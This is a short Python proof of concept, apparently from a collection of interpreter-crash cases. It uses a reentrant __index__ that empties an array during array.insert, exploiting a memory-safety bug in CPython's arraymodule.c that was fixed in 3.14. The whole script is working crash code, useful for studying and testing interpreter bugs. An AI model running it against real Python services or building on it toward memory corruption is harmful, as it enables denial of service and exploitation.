# technique: array.insert(i, v) calls v.__index__ twice, the second time after it made room: the array shrinks before the item is stored
# mended: 3.14
# goal: crash
# source: own analysis: ins1() in arraymodule.c
import array


class Index:
    calls = 0

    def __index__(self):
        Index.calls += 1
        if Index.calls % 2 == 0:
            del a[:]
        return 65


for i in range(1 << 12, 1 << 24, 1 << 20):
    a = array.array('B', bytes(1 << 24))
    a.insert(i, Index())
